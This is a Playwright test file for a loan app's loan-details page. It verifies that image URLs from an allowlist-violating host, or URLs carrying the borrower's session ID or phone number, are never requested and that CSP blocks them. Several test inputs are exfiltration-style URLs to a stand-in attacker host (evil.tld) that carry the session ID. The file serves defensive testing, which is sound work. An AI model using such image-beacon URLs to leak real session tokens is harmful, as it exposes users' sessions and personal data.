/**
 * At render time in Chromium: an image the API names on a host that is not on
 * config/app.json imageHosts, or on one that is but with the borrower's session in its URL, is
 * never requested; and should anything still try (markup the app does not control), the page's
 * CSP img-src, which lists the same hosts, stops the browser from sending it.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page, Request } from '@playwright/test';
import { DEMO, expect, test } from './support/fixtures';
import { byId, patchData } from './support/payFlow';

const LOAN_DETAILS = '/v3/loan-details/loan-details';
const app = JSON.parse(
  readFileSync(join(import.meta.dirname, '..', '..', 'config', 'app.json'), 'utf8'),
) as { imageHosts: string[] };

/** Every request the page makes to a host other than the test server's. */
function foreignRequests(page: Page): Request[] {
  const seen: Request[] = [];
  page.on('request', (r) => {
    if (new URL(r.url()).hostname !== '127.0.0.1') seen.push(r);
  });
  return seen;
}

test.describe('image hosts', () => {
  for (const [what, logo] of [
    ['a host not on imageHosts', `https://evil.tld/p.png?s=${DEMO.sessionId}`],
    [
      'a listed host with the sessionId in the URL',
      `https://${app.imageHosts[0] ?? ''}/p.png?s=${DEMO.sessionId}`,
    ],
    [
      'a listed host with the phone in the path',
      `https://${app.imageHosts[0] ?? ''}/${DEMO.mobilePhone}/p.png`,
    ],
  ] as const) {
    test(`the product logo from the API on ${what} is not requested, the rest of the screen shows`, async ({
      page,
      kopa,
    }) => {
      const foreign = foreignRequests(page);
      await patchData(page, LOAN_DETAILS, (data) => {
        data.productLogo = logo;
      });
      await kopa.open('/loanDetail', { orderId: 'O170', productId: 'P002' });
      await expect(byId(page, 'productName')).not.toBeEmpty();
      await expect(page.locator('img[src*="p.png"]')).toHaveCount(0);
      expect(foreign.map((r) => r.url())).toEqual([]);
      expect(await kopa.reports()).toContainEqual(
        expect.objectContaining({
          kind: 'image',
          message: expect.stringContaining('Image source refused'),
        }),
      );
    });
  }

  test("the page's CSP stops an image on another host even when markup asks for it", async ({
    page,
    kopa,
  }) => {
    const foreign = foreignRequests(page);
    await kopa.open('/loanDetail', { orderId: 'O170', productId: 'P002' });
    await expect(byId(page, 'productName')).not.toBeEmpty();
    await page.evaluate((sid) => {
      const img = document.createElement('img');
      img.src = `https://evil.tld/p.png?s=${sid}`;
      document.body.append(img);
    }, DEMO.sessionId);
    await expect
      .poll(() => kopa.cspViolations())
      .toContainEqual(expect.stringContaining('img-src https://evil.tld/p.png'));
    // Chromium names the attempt, and stops it before it leaves: blocked by the CSP, no answer.
    await expect.poll(() => foreign.map((r) => r.failure()?.errorText)).toEqual(['csp']);
    expect(await foreign[0]?.response()).toBeNull();
  });
});
